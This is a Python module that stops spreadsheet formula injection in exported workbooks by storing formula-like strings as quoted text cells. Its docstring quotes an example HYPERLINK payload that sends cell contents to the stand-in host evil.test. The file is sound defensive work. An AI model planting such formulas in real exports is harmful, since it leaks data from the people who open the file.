"""Spreadsheet cells that hold what strangers wrote (subjects, names, reasons).

A subject such as ``=HYPERLINK("http://evil.test/?"&A1,"点击")`` must reach the workbook as
text, never as a live formula (CSV/formula injection). :func:`append_row` is what every
export uses to add a row: a string starting with ``= + - @`` (or a tab / carriage return,
which some spreadsheet programs skip before looking) is stored as a text cell with Excel's
quote prefix, so it shows exactly as written and stays text when a clerk edits the cell.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell

__all__ = ["FORMULA_STARTS", "append_row", "as_text", "is_formula_like"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def is_formula_like(value: object) -> bool:
    """Whether a spreadsheet program could read `value` as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell: Cell) -> Cell:
    """Make `cell` a plain text cell when its value could be read as a formula."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def append_row(ws: Any, values: Iterable[object]) -> None:
    """``ws.append(values)`` with every formula-like string written as text."""
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        as_text(cell)
